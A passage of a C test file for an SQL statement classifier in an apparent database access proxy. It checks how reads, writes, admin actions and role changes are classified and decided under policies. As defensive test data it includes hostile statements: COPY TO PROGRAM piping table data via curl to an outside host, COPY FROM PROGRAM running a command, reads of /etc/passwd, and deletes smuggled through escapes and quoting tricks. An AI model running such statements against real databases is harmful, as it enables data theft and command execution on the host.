/* The SQL statement classifier: classes, flags, functions and tags of
 * many statements (every known way to hide a write or an admin action in
 * something that looks like a read), decisions under several policies,
 * and malformed, oversized and deeply nested input. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "hoop_sql.h"
#include "tap.h"

#define RD	HOOP_SQL_READ
#define WR	HOOP_SQL_WRITE
#define DDL	HOOP_SQL_DDL
#define DCL	HOOP_SQL_DCL
#define ADM	HOOP_SQL_ADMIN
#define TX	HOOP_SQL_TRANSACTION
#define SES	HOOP_SQL_SESSION
#define CPY	HOOP_SQL_COPY
#define CALL	HOOP_SQL_CALL
#define UNK	HOOP_SQL_UNKNOWN

#define F_ROLE	HOOP_SQL_F_ROLE
#define F_LEX	HOOP_SQL_F_LEXER
#define F_FILE	HOOP_SQL_F_SERVER_FILE
#define F_PROG	HOOP_SQL_F_PROGRAM
#define F_LOCK	HOOP_SQL_F_LOCK
#define F_IN	HOOP_SQL_F_COPY_IN
#define F_OUT	HOOP_SQL_F_COPY_OUT
#define F_RW	HOOP_SQL_F_READ_WRITE

#define NELEM(a)	(sizeof(a) / sizeof((a)[0]))

static const char conf[] =
    "issuer \"gh\" { url = \"https://issuer.example\" audience = {\"hoop\"} }\n"
    "identity \"ro\" { issuer = \"gh\" claim \"sub\" { equals = {\"ro\"} } "
    "login = \"ro\" }\n"
    "identity \"help\" { issuer = \"gh\" claim \"sub\" { equals = {\"help\"} } "
    "login = \"help\" }\n"
    "identity \"analyst\" { issuer = \"gh\" claim \"sub\" { equals = "
    "{\"an\"} } login = \"analyst\" }\n"
    "identity \"dba\" { issuer = \"gh\" claim \"sub\" { equals = {\"dba\"} } "
    "login = \"dba\" }\n"
    "identity \"all\" { issuer = \"gh\" claim \"sub\" { equals = {\"all\"} } "
    "login = \"all\" }\n"
    "identity \"mig\" { issuer = \"gh\" claim \"sub\" { equals = {\"mig\"} } "
    "login = \"mig\" }\n"
    "target \"db\" { type = \"postgres\" host = \"db\" user = \"u\" }\n"
    "target \"other\" { type = \"postgres\" host = \"db2\" user = \"u\" }\n"
    /* The policy every statement below is decided under. */
    "policy \"read-only\" { identities = {\"ro\"} targets = {\"db\"}\n"
    "  rule \"read\" { action = \"allow\" statements = {\"read\"} }\n"
    "}\n"
    "policy \"helpdesk\" { identities = {\"help\"} targets = {\"db\"}\n"
    "  rule \"read\" { action = \"allow\" statements = {\"read\"} }\n"
    "  rule \"cancel\" { action = \"allow\" functions = "
    "{\"pg_catalog.pg_cancel_backend\", \"lower\", \"set_config\"} }\n"
    "  rule \"seq\" { action = \"approve\" approvers = {\"leads\"} "
    "functions = {\"nextval\"} }\n"
    "}\n"
    "policy \"analysts\" { identities = {\"analyst\"} targets = {\"db\"}\n"
    "  rule \"read\" { action = \"allow\" statements = {\"read\", "
    "\"transaction\", \"session\"} }\n"
    "  rule \"cancel\" { action = \"allow\" functions = "
    "{\"pg_cancel_backend\"} }\n"
    "  rule \"nothing-else\" { action = \"deny\" reason = \"analysts read\" "
    "statements = {\"write\", \"ddl\", \"dcl\", \"admin\", \"copy\", "
    "\"call\", \"unknown\"} }\n"
    "}\n"
    "policy \"dba\" { identities = {\"dba\"} targets = {\"db\"}\n"
    "  rule \"work\" { action = \"allow\" statements = {\"read\", \"write\", "
    "\"ddl\", \"transaction\", \"session\", \"admin\", \"copy\"} }\n"
    "  rule \"files\" { action = \"deny\" reason = \"no server files\" "
    "functions = {\"pg_read_file\", \"lo_export\"} }\n"
    "  rule \"roles\" { action = \"approve\" approvers = {\"security\"} "
    "statements = {\"dcl\"} }\n"
    "}\n"
    "policy \"everything\" { identities = {\"all\"} targets = {\"db\"}\n"
    "  rule \"all\" { action = \"allow\" statements = {\"read\", \"write\", "
    "\"ddl\", \"dcl\", \"admin\", \"transaction\", \"session\", \"copy\", "
    "\"call\", \"unknown\"} }\n"
    "}\n"
    "policy \"migrations\" { identities = {\"mig\"} targets = {\"db\"}\n"
    "  rule \"read\" { action = \"allow\" statements = {\"read\"} }\n"
    "  rule \"write\" { action = \"approve\" approvers = {\"leads\"} "
    "statements = {\"write\"} }\n"
    "  rule \"ddl\" { action = \"approve\" approvers = {\"security\"} "
    "statements = {\"ddl\"} }\n"
    "}\n";

static hoop_config_t *cfg;

struct sql_case {
	const char *sql;
	unsigned classes;
	unsigned flags;
	const char *functions;	/* comma-separated, in call order */
	const char *tag;
	int read_only_allows;	/* the decision under policy read-only */
};

static const struct sql_case cases[] = {
	/* Reads. */
	{ "select 1", RD, 0, "", "SELECT", 1 },
	{ "SELECT id, name FROM users WHERE id = $1 ORDER BY name LIMIT 10",
	    RD, 0, "", "SELECT", 1 },
	{ "select lower(name), count(*) from users group by 1", RD, 0,
	    "lower,count", "SELECT", 1 },
	{ "table t", RD, 0, "", "SELECT", 1 },
	{ "values (1), (2)", RD, 0, "", "SELECT", 1 },
	{ "show search_path", RD, 0, "", "SHOW", 1 },
	{ "explain select * from t", RD, 0, "", "EXPLAIN", 1 },
	{ "select * from t join u using (id) where exists (select 1 from v)",
	    RD, 0, "", "SELECT", 1 },
	{ "select pg_catalog.now()", RD, 0, "pg_catalog.now", "SELECT", 1 },
	{ "declare c cursor for select * from t", RD, 0, "",
	    "DECLARE CURSOR", 1 },
	{ "fetch 10 from c", RD, 0, "", "FETCH", 1 },
	{ "move 1 in c", RD, 0, "", "MOVE", 1 },
	{ "close c", RD, 0, "", "CLOSE CURSOR", 1 },
	{ "select xmlelement(name a, 'x')", RD, 0, "", "SELECT", 1 },
	{ "select case when a then 1 else coalesce(b, 2) end from t", RD, 0,
	    "", "SELECT", 1 },
	{ "select row(1, 2), array[1, 2], greatest(1, 2), x::int", RD, 0, "",
	    "SELECT", 1 },
	{ "select * from generate_series(1, 10) g", RD, 0, "generate_series",
	    "SELECT", 1 },
	{ "select * from t, lateral (select * from u where u.id = t.id) s",
	    RD, 0, "", "SELECT", 1 },
	{ "select current_user, current_setting('role')", RD, 0,
	    "current_setting", "SELECT", 1 },
	{ "with recursive r(n) as (select 1 union all select n + 1 from r "
	    "where n < 3) select * from r", RD, 0, "", "SELECT", 1 },
	{ "select count(*) filter (where a > 1) over (partition by b) from t",
	    RD, 0, "count", "SELECT", 1 },
	{ "select * from t tablesample system (10)", RD, 0, "", "SELECT", 1 },
	{ "select extract(year from now()), trim(' x ')", RD, 0,
	    "pg_catalog.extract,now,pg_catalog.btrim", "SELECT", 1 },
	/* Keywords hidden in comments, strings and escapes. */
	{ "select 1 /* ; delete from t */", RD, 0, "", "SELECT", 1 },
	{ "select 1 -- ; delete from t", RD, 0, "", "SELECT", 1 },
	{ "select $$; delete from t; $$", RD, 0, "", "SELECT", 1 },
	{ "select $x$ drop table t; $x$", RD, 0, "", "SELECT", 1 },
	{ "/* a /* nested */ delete from t; */ select 1", RD, 0, "", "SELECT",
	    1 },
	{ "select U&'\\0064elete from t'", RD, 0, "", "SELECT", 1 },
	{ "select E'\\'; delete from t; --'", RD, 0, "", "SELECT", 1 },
	{ "select * from t where a = 'x''; delete from t; --'", RD, 0, "",
	    "SELECT", 1 },
	{ "select U&\"\\0070g_read_file\"('/etc/passwd')", RD | ADM, F_FILE,
	    "pg_read_file", "SELECT", 0 },
	{ "SELECT \"PG_TERMINATE_BACKEND\"(1)", RD | ADM, 0,
	    "pg_terminate_backend", "SELECT", 0 },
	/* Writes, however wrapped. */
	{ "insert into t values (1)", RD | WR, 0, "", "INSERT", 0 },
	{ "update t set a = 1 where id = 2", WR, 0, "", "UPDATE", 0 },
	{ "delete from t", WR, 0, "", "DELETE", 0 },
	{ "merge into t using u on t.id = u.id when matched then delete", WR,
	    0, "", "MERGE", 0 },
	{ "insert into t select * from u on conflict do nothing", RD | WR, 0,
	    "", "INSERT", 0 },
	{ "with x as (delete from t returning *) select * from x", RD | WR, 0,
	    "", "SELECT", 0 },
	{ "with x as (update t set a = 1 returning *) select 1", RD | WR, 0,
	    "", "SELECT", 0 },
	{ "select * from (with x as (insert into t values (1) returning *) "
	    "select * from x) s", RD | WR, 0, "", "SELECT", 0 },
	{ "select * from t for update", RD | WR, F_LOCK, "", "SELECT", 0 },
	{ "select * from t for share skip locked", RD | WR, F_LOCK, "",
	    "SELECT", 0 },
	{ "(select * from t for no key update) union select * from u",
	    RD | WR, F_LOCK, "", "SELECT", 0 },
	{ "explain analyze delete from t", RD | WR, 0, "", "EXPLAIN", 0 },
	{ "explain (analyze, buffers) update t set a = 1", RD | WR, 0, "",
	    "EXPLAIN", 0 },
	{ "explain delete from t", RD | WR, 0, "", "EXPLAIN", 0 },
	{ "prepare p as delete from t", WR, 0, "", "PREPARE", 0 },
	{ "prepare q(int) as select $1", RD, 0, "", "PREPARE", 1 },
	{ "execute p(1)", UNK, 0, "", "EXECUTE", 0 },
	{ "explain analyze execute p(1)", RD | UNK, 0, "", "EXPLAIN", 0 },
	{ "deallocate p", SES, 0, "", "DEALLOCATE", 0 },
	{ "select nextval('s')", RD | WR, 0, "nextval", "SELECT", 0 },
	{ "select setval('s', 1)", RD | WR, 0, "setval", "SELECT", 0 },
	{ "select * from t order by nextval('s')", RD | WR, 0, "nextval",
	    "SELECT", 0 },
	{ "insert into t values (default) returning f(x)", RD | WR, 0, "f",
	    "INSERT", 0 },
	{ "declare c cursor for with x as (delete from t returning *) "
	    "select * from x", RD | WR, 0, "", "DECLARE CURSOR", 0 },
	{ "lock table t in access exclusive mode", WR, F_LOCK, "",
	    "LOCK TABLE", 0 },
	{ "notify ch, 'x'", WR, 0, "", "NOTIFY", 0 },
	{ "select pg_notify('ch', 'x')", RD | WR, 0, "pg_notify", "SELECT",
	    0 },
	{ "refresh materialized view v", WR, 0, "",
	    "REFRESH MATERIALIZED VIEW", 0 },
	{ "select lo_from_bytea(0, 'x')", RD | WR, 0, "lo_from_bytea",
	    "SELECT", 0 },
	/* DDL, and DDL that writes. */
	{ "select * into x from t", RD | WR | DDL, 0, "", "SELECT INTO", 0 },
	{ "select 1 into x union select 2", RD | WR | DDL, 0, "", "SELECT",
	    0 },
	{ "create table x as select * from t", RD | WR | DDL, 0, "",
	    "CREATE TABLE AS", 0 },
	{ "create materialized view v as select 1", RD | WR | DDL, 0, "",
	    "CREATE MATERIALIZED VIEW", 0 },
	{ "create table t (id int default nextval('s'))", WR | DDL, 0,
	    "nextval", "CREATE TABLE", 0 },
	{ "alter table t add column b int", DDL, 0, "", "ALTER TABLE", 0 },
	{ "drop table t", DDL, 0, "", "DROP", 0 },
	{ "truncate t", WR | DDL, 0, "", "TRUNCATE TABLE", 0 },
	{ "create index on t (a)", DDL, 0, "", "CREATE INDEX", 0 },
	{ "create view v as select * from t", RD | DDL, 0, "", "CREATE VIEW",
	    0 },
	{ "create function f() returns int language sql begin atomic "
	    "delete from t; select 1; end", RD | WR | DDL, 0, "",
	    "CREATE FUNCTION", 0 },
	{ "create rule r as on insert to t do instead delete from u",
	    WR | DDL, 0, "", "CREATE RULE", 0 },
	{ "comment on table t is 'x'", DDL, 0, "", "COMMENT", 0 },
	{ "create extension dblink", DDL | ADM, 0, "", "CREATE EXTENSION",
	    0 },
	/* Privileges and role changes. */
	{ "grant select on t to bob", DCL, 0, "", "GRANT", 0 },
	{ "revoke all on t from bob", DCL, 0, "", "REVOKE", 0 },
	{ "create role bob", DCL, 0, "", "CREATE ROLE", 0 },
	{ "alter role bob superuser", DCL, 0, "", "ALTER ROLE", 0 },
	{ "alter default privileges grant select on tables to bob", DCL, 0,
	    "", "ALTER DEFAULT PRIVILEGES", 0 },
	{ "alter function f() owner to bob", DDL | DCL, 0, "", "ALTER", 0 },
	{ "set role admin", DCL, F_ROLE, "", "SET", 0 },
	{ "set local role none", DCL, F_ROLE, "", "SET", 0 },
	{ "SET SESSION AUTHORIZATION 'admin'", DCL, F_ROLE, "", "SET", 0 },
	{ "reset role", DCL, F_ROLE, "", "RESET", 0 },
	{ "reset session authorization", DCL, F_ROLE, "", "RESET", 0 },
	{ "reset all", SES | DCL, F_ROLE | F_RW, "", "RESET", 0 },
	{ "discard all", SES | DCL, F_ROLE | F_RW, "", "DISCARD ALL", 0 },
	{ "select set_config('role', 'admin', false)", RD | DCL | SES,
	    F_ROLE, "set_config", "SELECT", 0 },
	{ "select set_config('ROLE'::text, 'admin', false)", RD | DCL | SES,
	    F_ROLE, "set_config", "SELECT", 0 },
	{ "select set_config(new_value => 'admin', setting_name => "
	    "'session_authorization', is_local => false)", RD | DCL | SES,
	    F_ROLE, "set_config", "SELECT", 0 },
	{ "select set_config(current_user, 'x', false)", RD | SES | UNK, 0,
	    "set_config", "SELECT", 0 },
	{ "select pg_catalog.set_config('search_path', 'x', false)",
	    RD | SES, 0, "pg_catalog.set_config", "SELECT", 0 },
	/* Session settings, and those that change how hoop reads SQL. */
	{ "set search_path = public, other", SES, 0, "", "SET", 0 },
	{ "set statement_timeout to '5s'", SES, 0, "", "SET", 0 },
	{ "set standard_conforming_strings = off", SES, F_LEX, "", "SET", 0 },
	{ "set standard_conforming_strings = 0", SES, F_LEX, "", "SET", 0 },
	{ "set standard_conforming_strings to default", SES, F_LEX, "", "SET",
	    0 },
	{ "reset standard_conforming_strings", SES, F_LEX, "", "RESET", 0 },
	{ "set standard_conforming_strings = on", SES, 0, "", "SET", 0 },
	{ "select set_config('standard_conforming_strings', 'off', false)",
	    RD | SES, F_LEX, "set_config", "SELECT", 0 },
	{ "set client_encoding to 'SJIS'", SES, F_LEX, "", "SET", 0 },
	{ "set names 'UTF-8'", SES, 0, "", "SET", 0 },
	{ "set session characteristics as transaction read write", SES, F_RW,
	    "", "SET", 0 },
	{ "set default_transaction_read_only = off", SES, F_RW, "", "SET",
	    0 },
	{ "set default_transaction_read_only = on", SES, 0, "", "SET", 0 },
	{ "listen ch", SES, 0, "", "LISTEN", 0 },
	{ "unlisten *", SES, 0, "", "UNLISTEN", 0 },
	{ "select pg_advisory_lock(1)", RD | SES, 0, "pg_advisory_lock",
	    "SELECT", 0 },
	/* Transactions. */
	{ "begin", TX, 0, "", "BEGIN", 0 },
	{ "begin read write", TX, F_RW, "", "BEGIN", 0 },
	{ "start transaction isolation level serializable, read only", TX, 0,
	    "", "START TRANSACTION", 0 },
	{ "set transaction read only", TX, 0, "", "SET", 0 },
	{ "set transaction read write", TX, F_RW, "", "SET", 0 },
	{ "commit", TX, 0, "", "COMMIT", 0 },
	{ "rollback to savepoint a", TX, 0, "", "ROLLBACK", 0 },
	{ "set constraints all deferred", TX, 0, "", "SET CONSTRAINTS", 0 },
	{ "prepare transaction 'x'", TX | ADM, 0, "", "PREPARE TRANSACTION",
	    0 },
	{ "commit prepared 'x'", TX | ADM, 0, "", "COMMIT PREPARED", 0 },
	/* COPY. */
	{ "copy t to stdout", RD | CPY, F_OUT, "", "COPY", 0 },
	{ "copy t from stdin", WR | CPY, F_IN, "", "COPY", 0 },
	{ "copy (select * from t) to stdout with (format csv)", RD | CPY,
	    F_OUT, "", "COPY", 0 },
	{ "copy (delete from t returning *) to stdout", RD | WR | CPY, F_OUT,
	    "", "COPY", 0 },
	{ "copy t to program 'curl -d @- http://x'", RD | ADM | CPY, F_PROG,
	    "", "COPY", 0 },
	{ "copy t from program 'id'", WR | ADM | CPY, F_PROG, "", "COPY", 0 },
	{ "copy t from '/etc/passwd'", WR | ADM | CPY, F_FILE, "", "COPY",
	    0 },
	{ "copy t to '/tmp/x'", RD | ADM | CPY, F_FILE, "", "COPY", 0 },
	/* Code. */
	{ "do $$ begin delete from t; end $$", CALL, 0, "", "DO", 0 },
	{ "do language plpgsql 'begin null; end'", CALL, 0, "", "DO", 0 },
	{ "call proc(1)", CALL, 0, "proc", "CALL", 0 },
	{ "call s.proc(nextval('q'))", CALL | WR, 0, "s.proc,nextval", "CALL",
	    0 },
	/* Administration. */
	{ "vacuum full t", ADM, 0, "", "VACUUM", 0 },
	{ "analyze t", ADM, 0, "", "ANALYZE", 0 },
	{ "checkpoint", ADM, 0, "", "CHECKPOINT", 0 },
	{ "reindex table t", ADM, 0, "", "REINDEX", 0 },
	{ "cluster t using i", ADM, 0, "", "CLUSTER", 0 },
	{ "alter system set work_mem = '1GB'", ADM, 0, "", "ALTER SYSTEM",
	    0 },
	{ "load 'auto_explain'", ADM, 0, "", "LOAD", 0 },
	{ "select pg_terminate_backend(123)", RD | ADM, 0,
	    "pg_terminate_backend", "SELECT", 0 },
	{ "select pg_cancel_backend(123)", RD | ADM, 0, "pg_cancel_backend",
	    "SELECT", 0 },
	{ "select pg_reload_conf()", RD | ADM, 0, "pg_reload_conf", "SELECT",
	    0 },
	{ "select pg_read_file('/etc/passwd')", RD | ADM, F_FILE,
	    "pg_read_file", "SELECT", 0 },
	{ "select pg_catalog.pg_read_binary_file('x')", RD | ADM, F_FILE,
	    "pg_catalog.pg_read_binary_file", "SELECT", 0 },
	{ "select * from pg_ls_dir('.')", RD | ADM, F_FILE, "pg_ls_dir",
	    "SELECT", 0 },
	{ "select lo_import('/etc/passwd')", RD | ADM, F_FILE, "lo_import",
	    "SELECT", 0 },
	{ "select lo_export(1, '/tmp/x')", RD | ADM, F_FILE, "lo_export",
	    "SELECT", 0 },
	{ "select txid_current()", RD | ADM, 0, "txid_current", "SELECT", 0 },
	{ "select * from pg_logical_slot_get_changes('s', null, null)",
	    RD | ADM, 0, "pg_logical_slot_get_changes", "SELECT", 0 },
	{ "select myschema.pg_terminate_backend(1)", RD | ADM, 0,
	    "myschema.pg_terminate_backend", "SELECT", 0 },
	{ "select 1 where exists (select pg_cancel_backend(pid) from "
	    "pg_stat_activity)", RD | ADM, 0, "pg_cancel_backend", "SELECT",
	    0 },
	/* SQL hoop cannot see. */
	{ "select * from dblink('host=x', 'select 1') as t(a int)", RD | UNK,
	    0, "dblink", "SELECT", 0 },
	{ "select dblink_exec('host=x', 'delete from t')", RD | UNK, 0,
	    "dblink_exec", "SELECT", 0 },
	{ "select query_to_xml('delete from t returning *', true, true, '')",
	    RD | UNK, 0, "query_to_xml", "SELECT", 0 },
	{ "select ts_stat('select v from t')", RD | UNK, 0, "ts_stat",
	    "SELECT", 0 },
};

static void
join_functions(const struct hoop_sql_stmt *st, char *buf, size_t len)
{
	size_t i, used = 0;

	buf[0] = '\0';
	for (i = 0; i < st->n_functions; i++)
		used += (size_t)snprintf(buf + used, used < len ? len - used :
		    0, "%s%s", i > 0 ? "," : "", st->functions[i]);
}

static void
principal(struct hoop_principal *p, const char *identity)
{
	memset(p, 0, sizeof(*p));
	snprintf(p->login, sizeof(p->login), "%s", identity);
	p->identity = hoop_config_identity(cfg, identity);
	if (p->identity == NULL)
		abort();
}

/* Parses sql (one statement) and decides it for identity on target. */
static enum hoop_rule_action
decide(const char *identity, const char *target, const char *sql,
    struct hoop_sql_decision *d)
{
	struct hoop_principal p;
	hoop_sql_t *parsed = NULL;
	char why[256];

	memset(d, 0, sizeof(*d));
	principal(&p, identity);
	if (hoop_sql_parse(sql, strlen(sql), &parsed, why, sizeof(why)) !=
	    HOOP_OK || hoop_sql_count(parsed) != 1) {
		printf("#   %s: %s\n", sql, why);
		hoop_sql_free(parsed);
		return (enum hoop_rule_action)-1;
	}
	hoop_sql_decide(cfg, &p, target, hoop_sql_stmt_at(parsed, 0), d);
	hoop_sql_free(parsed);
	return d->d.action;
}

static void
test_cases(void)
{
	const struct sql_case *c;
	const struct hoop_sql_stmt *st;
	struct hoop_sql_decision d;
	hoop_sql_t *sql;
	char fns[512], why[256], want[128], got[128];
	size_t i;
	int good, allowed;

	for (i = 0; i < NELEM(cases); i++) {
		c = &cases[i];
		sql = NULL;
		if (!ok(hoop_sql_parse(c->sql, strlen(c->sql), &sql, why,
		    sizeof(why)) == HOOP_OK && hoop_sql_count(sql) == 1,
		    "parses: %s", c->sql)) {
			printf("#   %s\n", why);
			hoop_sql_free(sql);
			continue;
		}
		st = hoop_sql_stmt_at(sql, 0);
		join_functions(st, fns, sizeof(fns));
		good = st->classes == c->classes && st->flags == c->flags &&
		    strcmp(fns, c->functions) == 0 &&
		    strcmp(st->tag, c->tag) == 0;
		if (!ok(good, "classified: %s", c->sql)) {
			hoop_sql_classes_format(c->classes, want, sizeof(want));
			hoop_sql_classes_format(st->classes, got, sizeof(got));
			printf("#   classes %s want %s, flags %#x want %#x, "
			    "functions \"%s\" want \"%s\", tag %s want %s\n",
			    got, want, st->flags, c->flags, fns,
			    c->functions, st->tag, c->tag);
		}
		allowed = decide("ro", "db", c->sql, &d) == HOOP_ACTION_ALLOW;
		if (!ok(allowed == c->read_only_allows, "read-only %s: %s",
		    c->read_only_allows ? "allows" : "refuses", c->sql))
			printf("#   %s\n", d.d.reason);
		hoop_sql_free(sql);
	}
}

/* Text, offsets and fingerprints of statements in one query. */
static void
test_statements(void)
{
	const struct hoop_sql_stmt *a, *b, *c;
	hoop_sql_t *sql = NULL, *other = NULL;
	char why[256];
	const char *q;

	q = "select 1; delete from t";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 2, "two statements");
	a = hoop_sql_stmt_at(sql, 0);
	b = hoop_sql_stmt_at(sql, 1);
	ok(a != NULL && b != NULL && hoop_sql_stmt_at(sql, 2) == NULL,
	    "statements by index");
	if (a == NULL || b == NULL)
		goto out;
	ok(strcmp(a->text, "select 1") == 0 && a->offset == 0 &&
	    a->text_len == 8 && a->classes == RD, "first: select 1, read");
	ok(strcmp(b->text, "delete from t") == 0 && b->offset == 10 &&
	    b->text_len == 13 && b->classes == WR, "second: delete, write");
	ok(strlen(a->fingerprint) == 16 && strcmp(a->fingerprint,
	    b->fingerprint) != 0, "fingerprints differ");
	hoop_sql_free(sql);
	sql = NULL;

	/* Backslash is no escape in a standard string: two statements. */
	q = "select '\\'; delete from t; --'";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 2 &&
	    hoop_sql_stmt_at(sql, 1)->classes == WR,
	    "standard string ends at the quote after a backslash");
	hoop_sql_free(sql);
	sql = NULL;

	q = " ; select 1 ;; select pg_terminate_backend(2); \n";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 2, "empty statements skipped");
	c = hoop_sql_stmt_at(sql, 1);
	ok(c != NULL && strcmp(c->text, "select pg_terminate_backend(2)") ==
	    0 && c->offset == 15 && c->classes == (RD | ADM),
	    "text trimmed, offset into the query");
	hoop_sql_free(sql);
	sql = NULL;

	/* Constants, case, spacing and comments do not change it. */
	q = "SELECT  a FROM t WHERE id = 1 -- x";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_parse("select a from t where id=42", 27, &other, why,
	    sizeof(why)) == HOOP_OK && strcmp(hoop_sql_stmt_at(sql,
	    0)->fingerprint, hoop_sql_stmt_at(other, 0)->fingerprint) == 0,
	    "fingerprint is normalised");
	hoop_sql_free(other);
	other = NULL;
	ok(hoop_sql_parse("select b from t where id = 1", 28, &other, why,
	    sizeof(why)) == HOOP_OK && strcmp(hoop_sql_stmt_at(sql,
	    0)->fingerprint, hoop_sql_stmt_at(other, 0)->fingerprint) != 0,
	    "another column, another fingerprint");
	hoop_sql_free(other);
	other = NULL;
	hoop_sql_free(sql);
	sql = NULL;

	/* The query need not be NUL-terminated: only len bytes count. */
	q = "select 1; delete from t";
	ok(hoop_sql_parse(q, 8, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 1 &&
	    hoop_sql_stmt_at(sql, 0)->classes == RD, "only len bytes read");
	hoop_sql_free(sql);
	sql = NULL;

	q = "begin; delete from t; commit";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 3 &&
	    hoop_sql_stmt_at(sql, 0)->classes == TX &&
	    hoop_sql_stmt_at(sql, 1)->classes == WR &&
	    hoop_sql_stmt_at(sql, 2)->classes == TX, "transaction block");
	hoop_sql_free(sql);
	sql = NULL;

	q = "prepare p1 as select 1; execute p1; deallocate p1";
	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 3 &&
	    strcmp(hoop_sql_stmt_at(sql, 0)->prepared, "p1") == 0 &&
	    strcmp(hoop_sql_stmt_at(sql, 1)->prepared, "p1") == 0 &&
	    strcmp(hoop_sql_stmt_at(sql, 2)->prepared, "p1") == 0,
	    "prepared statement names");
	hoop_sql_free(sql);
	sql = NULL;
	ok(hoop_sql_parse("deallocate all", 14, &sql, why, sizeof(why)) ==
	    HOOP_OK && hoop_sql_stmt_at(sql, 0)->prepared == NULL,
	    "DEALLOCATE ALL names none");
out:
	hoop_sql_free(sql);
}

static void
parse_fails(const char *q, size_t len, hoop_err_t want, const char *said,
    const char *name)
{
	hoop_sql_t *sql = (hoop_sql_t *)&sql;
	char why[256] = "";
	hoop_err_t err;

	err = hoop_sql_parse(q, len, &sql, why, sizeof(why));
	if (!ok(err == want && sql == NULL && strstr(why, said) != NULL,
	    "%s", name))
		printf("#   err %d, why \"%s\"\n", err, why);
}

static void
parse_empty(const char *q, const char *name)
{
	hoop_sql_t *sql = NULL;
	char why[256];

	ok(hoop_sql_parse(q, strlen(q), &sql, why, sizeof(why)) == HOOP_OK &&
	    sql != NULL && hoop_sql_count(sql) == 0 &&
	    hoop_sql_stmt_at(sql, 0) == NULL, "%s", name);
	hoop_sql_free(sql);
}

/* A query of n copies of unit between head and tail. */
static char *
repeat(const char *head, const char *unit, size_t n, const char *tail,
    size_t *len)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail), i;
	char *q;

	*len = hl + ul * n + tl;
	if ((q = malloc(*len)) == NULL)
		abort();
	memcpy(q, head, hl);
	for (i = 0; i < n; i++)
		memcpy(q + hl + i * ul, unit, ul);
	memcpy(q + hl + n * ul, tail, tl);
	return q;
}

static void
test_hostile(void)
{
	hoop_sql_t *sql = NULL;
	char why[256], *q;
	size_t len;
	hoop_err_t err;

	parse_fails("selec 1", 7, HOOP_ERR_INVAL, "syntax error",
	    "syntax error refused with the parser's message");
	parse_fails("select 1; selec 2", 17, HOOP_ERR_INVAL, "syntax error",
	    "one bad statement refuses the whole query");
	parse_fails("select 'open", 12, HOOP_ERR_INVAL, "unterminated",
	    "unterminated string");
	parse_fails("select $$ open", 14, HOOP_ERR_INVAL, "unterminated",
	    "unterminated dollar quote");
	parse_fails("select /* open", 14, HOOP_ERR_INVAL, "unterminated",
	    "unterminated comment");
	parse_fails("select 1\0; delete from t", 24, HOOP_ERR_INVAL, "NUL",
	    "NUL byte refused");
	parse_fails(NULL, 3, HOOP_ERR_INVAL, "no query", "NULL query");
	parse_empty("", "empty query: no statement");
	parse_empty(" ;; ; ", "semicolons only");
	parse_empty("-- nothing\n/* at all */", "comments only");

	/* The largest query is accepted (parsed on a thread), one more
	 * byte is not. */
	q = repeat("select 1 --", "x", HOOP_SQL_MAX_QUERY - 11, "", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == 1 && hoop_sql_stmt_at(sql, 0)->classes == RD,
	    "query of HOOP_SQL_MAX_QUERY bytes parsed");
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
	q = repeat("select 1 --", "x", HOOP_SQL_MAX_QUERY - 10, "", &len);
	parse_fails(q, len, HOOP_ERR_TOOBIG, "limit", "oversized query");
	free(q);

	q = repeat("", "select 1;", HOOP_SQL_MAX_STATEMENTS, "", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_count(sql) == HOOP_SQL_MAX_STATEMENTS,
	    "HOOP_SQL_MAX_STATEMENTS statements");
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
	q = repeat("", "select 1;", HOOP_SQL_MAX_STATEMENTS + 1, "", &len);
	parse_fails(q, len, HOOP_ERR_TOOBIG, "statements",
	    "too many statements");
	free(q);

	q = repeat("select ", "f(1)+", 3000, "1", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_stmt_at(sql, 0)->n_functions == 1,
	    "the same function called 3000 times is one function");
	hoop_sql_free(sql);
	sql = NULL;
	free(q);
	/* f0() ... fN(): distinct names. */
	len = 0;
	if ((q = malloc(16 * (HOOP_SQL_MAX_FUNCTIONS + 1) + 16)) == NULL)
		abort();
	len = (size_t)sprintf(q, "select 1");
	for (size_t i = 0; i <= HOOP_SQL_MAX_FUNCTIONS; i++)
		len += (size_t)sprintf(q + len, ",f%zu()", i);
	parse_fails(q, len, HOOP_ERR_TOOBIG, "functions",
	    "too many distinct functions");
	free(q);

	/* Deep trees: libpg_query's own limit for right-nested ones, a
	 * thread with a large stack for left-deep ones (which it would
	 * otherwise overflow the stack on). */
	q = repeat("select ", "(", 20000, "1", &len);
	err = hoop_sql_parse(q, len, &sql, why, sizeof(why));
	ok(err == HOOP_ERR_INVAL && sql == NULL,
	    "20000 parentheses: the parser's depth limit");
	free(q);
	q = repeat("select ", "not ", 30000, "true", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_ERR_INVAL,
	    "30000 NOTs: the parser's depth limit");
	free(q);
	q = repeat("select ", "f(", 9000, "1", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_ERR_INVAL,
	    "9000 nested calls: the parser's depth limit");
	free(q);
	q = repeat("select ", "1+", 100000, "1", &len);
	ok(hoop_sql_parse(q, len, &sql, why, sizeof(why)) == HOOP_OK &&
	    hoop_sql_stmt_at(sql, 0)->classes == RD,
	    "100000-deep left chain parsed");
	hoop_sql_free(sql);
	sql = NULL;
